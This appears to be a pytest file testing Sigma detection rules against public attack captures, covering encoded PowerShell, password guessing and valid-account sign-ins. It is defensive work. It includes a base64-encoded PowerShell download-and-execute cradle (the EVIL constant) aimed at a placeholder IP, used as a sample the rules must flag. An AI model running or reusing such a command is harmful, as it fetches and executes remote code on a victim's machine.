"""The endpoint pack on public data: what it finds, what it costs, that it names nobody there; T1059, T1110, T1078."""

from __future__ import annotations

import base64
import importlib.util
import re
import sys
from collections import Counter

import pytest
from tests.conftest import ROOT

from vedette.core.content import shipped
from vedette.core.documents import load_yaml
from vedette.judge.sigma.pipelines import Pipelines
from vedette.run.pipeline.detection import load_detection
from vedette.sense.files import read_lines

OURS = shipped("rules/sigma")
FOUND = 46
"""80 % of the 57 labelled captures."""
ALERTS = 6.0
"""Alerts per 10,000 events that our own rules may cost."""
PUBLIC_ALONE = 39
"""Labelled captures that the public rules find alone."""
GENERAL = {
    "administrator",
    "system",
    "local service",
    "network service",
    "anonymous logon",
    "window manager",
    "workgroup",
}
GENERAL |= {
    "administrators",
    "nt authority",
    "font driver host",
    "workstation",
    "default",
    "builtin",
    "trustedinstaller",
}
GENERAL |= {"guest", "krbtgt", "local"}
"""Names in the captures that every Windows has."""


NOW = 1_790_000_000_000_000
ENCODED = "5b0d4f0a-6d0f-4a57-9a70-0f6f4b1f7a11"
SHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SCRIPT = base64.b64encode(
    "Restart-Service -Name spooler; Get-Volume | Out-File C:\\Logs\\v.txt".encode("utf-16-le")
).decode()
EVIL = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")
).decode()

BENIGN_WINDOWS = [
    r"powershell.exe -ExecutionPolicy RemoteSigned -File C:\Scripts\backup.ps1 -Encoding UTF8",
    r"powershell -NoProfile -NonInteractive -Command Get-Service | Export-Csv C:\Logs\s.csv",
    r"powershell.exe -Command Start-BitsTransfer -Source https://update.example/agent.msi -Destination C:\Temp",
    r"powershell.exe -c [Convert]::FromBase64String((Get-Content C:\Scripts\key.b64)) | Set-Content C:\Scripts\key.bin",
    r"powershell.exe -EncodedArguments",
    r"pwsh -NoLogo -File deploy.ps1 -Environment prod -encrypt",
    r"cmd.exe /c echo done > C:\Logs\pipe.txt",
    r"certutil -hashfile C:\Downloads\setup.exe SHA256",
    r"wevtutil.exe epl Security C:\Logs\security.evtx",
    r"sc.exe query WinDefend",
    r"net use Z: \\files1\finance",
    r"schtasks /query /tn \Acme\Nightly",
    r'reg query "HKLM\SYSTEM\CurrentControlSet\Services\EventLog" /v Start',
    r"rundll32.exe printui.dll,PrintUIEntry /in /n \\print1\floor2",
    r"vssadmin list shadows /for=C:",
]
BENIGN_LINUX = [
    "bash -c systemctl status auditd && journalctl -u sshd --since today",
    "python3 -c import socket; print(socket.gethostname())",
    "nc -zv db1 5432",
    "curl -fsS -o /opt/app/data.json https://api.example/v1/data",
    "ssh -N -L 5432:db1:5432 bastion",
    "bash -c timeout 3 cat < /proc/loadavg",
    "openssl s_client -connect api.example:443",
    "chmod 0640 /var/log/app/app.log",
    "crontab -l",
    "base64 -d /etc/app/licence.b64",
]


def _bench():
    spec = importlib.util.spec_from_file_location("captures_bench", ROOT / "benchmarks" / "captures.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def bench():
    return _bench()


@pytest.fixture(scope="module")
def own(bench, shared_data):
    """What our own rules say of all captures."""
    return bench.judged_by([shipped(name) for name in bench.OWN], shared_data)


@pytest.fixture(scope="module")
def detection(own):
    return own.detection


@pytest.fixture(scope="module")
def captures(own):
    return own.found


@pytest.fixture(scope="module")
def folders(bench, detection, shared_data):
    return bench.judge(shared_data / "windows" / "evtx_to_mitre.ndjson.gz", detection)


def fired(detection, source, data):
    """Ids of the rules that fire on one record."""
    event = detection.sources[source].to_event(data, tenant="t", stream="s", offset=0, ingest_time=NOW)
    return {signal.rule_id for signal in detection.judge(event)[0]}


def started(text, parent="", image=SHELL):
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "UtcTime": "2026-03-01 12:00:00.000",
        "Image": image,
        "CommandLine": text,
        "ParentImage": parent or r"C:\Windows\explorer.exe",
    }


def tagged(detection, technique):
    """Ids of rules and correlations with a technique."""
    held = (*detection.rules.rules, *detection.rules.correlations)
    return {one.id for one in held if any(tag.startswith(f"attack.{technique}") for tag in one.tags)}


def test_our_own_rules_find_most_attacks_for_few_alerts(bench, own):
    sums = bench.total(bench.rows_of(own, bench.own_ids(own.detection)))
    assert (sums["labelled"], sums["events"]) == (57, 361_100)
    assert sums["found_base"] >= FOUND
    assert sums["found_same"] >= FOUND
    assert sums["alerts_per_10k"] <= ALERTS
    assert sums["alerts"] < sums["matches"]


def test_without_its_rules_nothing_is_found(bench, own):
    sums = bench.total(bench.rows_of(own, []))
    assert (sums["found_base"], sums["matches"], sums["alerts"]) == (0, 0, 0)


def test_an_alert_of_another_technique_finds_nothing(bench, own):
    """The check itself: rules of one technique alone find the captures of that technique alone."""
    clearing = {rule.id for rule in own.detection.rules.rules if "attack.t1685.005" in rule.tags}
    found = [row for row in bench.rows_of(own, clearing) if row.same]
    assert clearing
    assert all("T1562" in name for row in found for name in row.techniques)


def test_no_rule_names_what_the_captures_hold(own, shared_data):
    """Hosts, people, domains and the attackers' programs of the data stand in no rule."""
    names: set[str] = set()
    for chunk in read_lines(shared_data / "windows" / "captures.ndjson.gz"):
        for data in own.detection.sources["windows"].parse_many(chunk.lines[::7]):
            for key in ("Hostname", "Computer"):
                names |= set(str(data.get(key, "")).lower().split("."))
            for key in ("SubjectUserName", "TargetUserName", "User", "SubjectDomainName", "ServiceName"):
                names |= set(str(data.get(key, "")).lower().strip("$").split("\\"))
            image = str(data.get("Image", "")).lower()
            if ":\\users\\" in image:
                names.add(image.rsplit("\\", 1)[-1])
    names = {name for name in names if len(name) > 4 and re.fullmatch(r"[a-z0-9_. -]+", name)} - GENERAL
    assert {"mordordc", "wardog"} <= names
    assert names & _words("detection:\n  one: {User|endswith: 'wardog'}\nlevel: high\n")
    said = {
        name: path.name
        for folder in ("windows", "linux", "network")
        for path in sorted((OURS / folder).glob("*.yml"))
        for name in names & _words(path.read_text())
    }
    assert said == {}


def _words(text: str) -> set[str]:
    """Words of what a rule matches: its title, text and tests are for people."""
    parts = re.findall(r"^detection:\n(.*?)^(?=\w)", text, re.MULTILINE | re.DOTALL)
    return set(re.findall(r"[a-z0-9_.-]{5,}", " ".join(parts).lower()))


def test_process_creation_of_the_security_log_through_a_pipeline(bench, shared_data):
    given = load_yaml((shipped("pipelines") / "windows_security_process.yml").read_bytes()).data
    fired = []
    for pipelines in (Pipelines(), Pipelines([given])):
        detection = load_detection([OURS / "windows"], pipelines=pipelines)
        assert not detection.rules.skipped
        found = bench.judge(shared_data / "windows" / "evtx_to_mitre.ndjson.gz", detection)
        fired.append({one.rule_id for held in found.values() for one in held.signals})
    assert len(fired[1]) >= len(fired[0]) + 10


def test_exceptions_hide_no_true_positive_of_the_public_rules(bench, shared_data):
    """The public rules' own examples fire as before."""
    paths = [shared_data / "sigma" / "rules.tar.gz", shipped("exceptions/sigmahq_windows.yml")]
    detection = load_detection(paths)
    assert [one for one in detection.rules.skipped if "exceptions" in one.path] == []
    found = bench.judge(shared_data / "sigma" / "regression.ndjson.gz", detection)
    lines = (shared_data / "sigma" / "regression_expected.jsonl").read_bytes().splitlines()
    wanted = [bench.orjson.loads(line) for line in lines]
    missing = [
        one["rule_id"]
        for one in wanted
        if sum(signal.rule_id == one["rule_id"] for signal in found[one["file"]].signals) < one["min_matches"]
    ]
    assert len(wanted) == 86
    assert missing == []


@pytest.mark.soak
def test_all_sets_of_rules(bench, shared_data):
    """The figures of `benchmarks/captures.py`."""
    result = bench.report(shared_data, [shipped(name) for name in bench.OWN])
    sums = result["all levels"]
    assert sums["sigmahq"]["found_base"] == PUBLIC_ALONE
    assert sums["both"]["found_base"] >= FOUND
    assert sums["tuned"]["found_same"] >= FOUND
    assert sums["tuned"]["matches_per_10k"] < sums["sigmahq"]["matches_per_10k"] / 2
    assert sums["tuned"]["alerts"] < sums["sigmahq"]["matches"] / 4
    for rows in result["rows"].values():
        assert len(rows) == 64


# T1059


def test_encoded_commands_of_public_attacks_are_found(captures, detection, shared_data):
    """Every process of the captures whose command line holds a long encoded command, and no other."""
    wanted = Counter()
    for chunk in read_lines(shared_data / "windows" / "captures.ndjson.gz"):
        for data in detection.sources["windows"].parse_many(chunk.lines):
            text = str(data.get("CommandLine", "")).lower()
            shell = str(data.get("Image", "")).lower().endswith("powershell.exe")
            if (
                data.get("EventID") == 1
                and "sysmon" in str(data.get("Channel", "")).lower()
                and shell
                and " -enc " in text
            ):
                wanted[data["_src"]] += 1
    found = Counter(
        {name: n for name, held in captures.items() if (n := sum(one.rule_id == ENCODED for one in held.signals))}
    )
    assert sum(wanted.values()) >= 8
    assert found == wanted


def test_a_reverse_shell_of_public_log4shell_data_is_found(detection, shared_data):
    titles = Counter()
    for chunk in read_lines(shared_data / "linux" / "log4shell.ndjson.gz"):
        for number, data in enumerate(detection.sources["syslog"].parse_many(chunk.lines)):
            event = detection.sources["syslog"].to_event(data, tenant="t", stream="s", offset=number, ingest_time=NOW)
            titles.update(signal.title for signal in detection.judge(event)[0])
    assert titles["Shell bound to a network connection"] == 1
    assert titles["Server program starts a shell or a download"] == 1
    assert sum(titles.values()) <= 6


@pytest.mark.parametrize("text", BENIGN_WINDOWS)
def test_scripts_of_administration_are_quiet(detection, text):
    assert fired(detection, "windows", started(text)) == set()


@pytest.mark.parametrize("text", BENIGN_LINUX)
def test_work_on_linux_is_quiet(detection, text):
    image = "/usr/bin/" + text.split()[0]
    data = {"TimeGenerated": "2026-03-01T12:00:00Z", "EventID": 1, "Image": image, "CommandLine": text, "User": "ada"}
    assert fired(detection, "syslog", data) == set()


def test_the_allow_list_of_scripts(detection):
    """A listed script is quiet by its exact text; one that is not, or that says more, is told."""
    lists = Pipelines(lists={"encoded_admin_scripts": [SCRIPT]})
    allowed = load_detection([OURS / "windows", shipped("exceptions/admin_scripts.yml")], pipelines=lists)
    listed, other = started(f"powershell -NoProfile -enc {SCRIPT}"), started(f"powershell -NoProfile -enc {EVIL}")
    assert fired(detection, "windows", listed) == {ENCODED}
    assert fired(allowed, "windows", listed) == set()
    assert fired(allowed, "windows", other) == {ENCODED}


def test_an_allow_list_that_is_not_given_is_told():
    without = load_detection([OURS / "windows", shipped("exceptions/admin_scripts.yml")])
    reasons = [one.reason for one in without.rules.skipped]
    assert len(reasons) == 1
    assert "encoded_admin_scripts" in reasons[0]
    assert "sigma.placeholder.unresolved" in reasons[0]
    assert fired(without, "windows", started(f"powershell -NoProfile -enc {SCRIPT}")) == {ENCODED}


# T1110 and T1078


def test_guessed_passwords_in_public_folders_are_found(folders, detection):
    """The folders of password guessing that hold a burst; single failures are none."""
    guessing = tagged(detection, "t1110")
    found = {name.split("/")[-1] for name, held in folders.items() if {one.rule_id for one in held.signals} & guessing}
    assert any("T1110" in name for name in (n for n, h in folders.items() if {s.rule_id for s in h.signals} & guessing))
    assert len(found) >= 2
    assert not any("4720" in name or "Service" in name for name in found)


def test_sign_ins_of_all_captures_are_no_guessing(captures, detection):
    """361,100 events with the sign-ins of many hosts, none of which guesses."""
    guessing = tagged(detection, "t1110")
    assert guessing
    assert {one.title for held in captures.values() for one in held.signals if one.rule_id in guessing} == set()


def test_a_valid_account_from_outside_is_found_once(captures, detection):
    """One capture holds a remote desktop session from a public address, among thousands of sign-ins from inside."""
    valid = tagged(detection, "t1078")
    found = {name for name, held in captures.items() if {one.rule_id for one in held.signals} & valid}
    assert len(found) == 1
    assert "run_keys_standard_user" in found.pop()
